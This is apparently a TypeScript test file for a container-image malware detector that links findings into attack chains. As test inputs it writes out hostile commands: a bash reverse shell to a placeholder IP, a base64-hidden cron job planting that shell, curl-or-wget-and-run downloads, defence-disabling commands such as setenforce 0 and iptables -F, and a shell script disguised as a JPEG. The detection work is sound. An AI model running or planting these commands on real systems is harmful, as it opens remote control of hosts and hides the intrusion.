import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sceneOf } from '../testing/scene.ts';
import type { Story } from '../trace/story.ts';
import { chainsOf } from './chains.ts';
import type { ExampleImage, Finding } from './detector.ts';

/** Detectors of every chain in order, the head's marked. */
async function chains(image: ExampleImage): Promise<readonly string[]> {
  const { findings, story } = await sceneOf(image);
  return chainsOf(findings, story).map(({ steps, head, id }) => {
    expect(findings[head]?.id).toBe(id);
    expect(steps).toContain(head);
    return steps.map((at) => `${at === head ? '*' : ''}${findings[at]?.detector}`).join(' > ');
  });
}

const shell = 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1';

describe('chains', () => {
  test('hidden code that plants a shell on the host is one story', async () => {
    const job = `echo '* * * * * root bash -c "${shell}"' >> /mnt/etc/crontab`;
    expect(await chains({ cmd: ['sh', '-c', `echo ${btoa(job)} | base64 -d | sh`] })).toEqual([
      'decode-and-run > *host-schedule > reverse-shell',
    ]);
  });

  test('a download in one script and its run in another', async () => {
    const image: ExampleImage = {
      cmd: ['sh', '/run.sh'],
      files: {
        '/run.sh': '#!/bin/sh\nsetenforce 0\nsh /get.sh\n/tmp/x\n',
        '/get.sh': '#!/bin/sh\nwget -q -O /tmp/x http://203.0.113.1/x\nchmod +x /tmp/x\n',
      },
    };
    expect((await chains(image))[0]).toMatch(/defence-off .*\*download-and-run/);
  });

  test('what has nothing to do with each other stays apart', async () => {
    const image: ExampleImage = {
      cmd: ['sh', '-c', shell],
      healthcheck: ['CMD-SHELL', 'curl -s http://203.0.113.9/x.sh | sh'],
    };
    expect(await chains(image)).toEqual([]);
  });

  test('notes alone are no story', async () => {
    expect(await chains({ cmd: ['sh', '-c', 'iptables -F; export HISTFILE=/dev/null; exec app'] })).toEqual([]);
  });

  test('whatever the findings, each is in one chain at most and the head is one of its steps', () => {
    const id = fc.nat({ max: 5 });
    const finding = fc.record({
      severity: fc.constantFrom('malicious', 'suspicious', 'note'),
      effects: fc.option(fc.array(id, { maxLength: 3 }), { nil: undefined }),
      stage: fc.option(id, { nil: undefined }),
      path: fc.option(fc.constantFrom('/a', '/b'), { nil: undefined }),
    });
    const stages = fc.array(fc.option(id, { nil: undefined }), { minLength: 0, maxLength: 5 });
    fc.assert(
      fc.property(fc.array(finding, { maxLength: 8 }), stages, (drafts, parents) => {
        const story = {
          starts: [],
          commands: [],
          // Parents may point anywhere, also in a circle.
          stages: parents.map((parent, at) => ({ id: at, parent, origin: { kind: 'file', path: '/a' }, start: 0 })),
          effects: parents.map((_parent, at) => ({
            id: at,
            kind: 'run',
            stage: at,
            line: 1,
            what: ['/b'],
            from: 'file',
          })),
        } as unknown as Story;
        const findings = drafts.map(({ path, ...draft }, at) => ({
          id: `${at}`,
          reach: 'runs',
          where: { path },
          ...draft,
        }));
        const chains = chainsOf(findings as unknown as readonly Finding[], story);
        const steps = chains.flatMap((chain) => chain.steps);
        expect(new Set(steps).size).toBe(steps.length);
        for (const chain of chains) {
          expect(chain.steps).toContain(chain.head);
          expect(chain.steps.length).toBeGreaterThan(1);
          expect(findings[chain.head]?.severity).not.toBe('note');
        }
      }),
    );
  });

  test('the same image has the same chains', async () => {
    const image: ExampleImage = { cmd: ['sh', '-c', 'setenforce 0; curl -s http://203.0.113.9/x | sh; iptables -F'] };
    expect(await chains(image)).toEqual(await chains(image));
  });

  test('a file that lies there comes before what runs it', async () => {
    const image: ExampleImage = {
      cmd: ['bash', '/opt/logo.jpg'],
      files: { '/opt/logo.jpg': `#!/bin/bash\n${shell}\n` },
    };
    expect(await chains(image)).toEqual(['*disguised-file > reverse-shell']);
  });
});
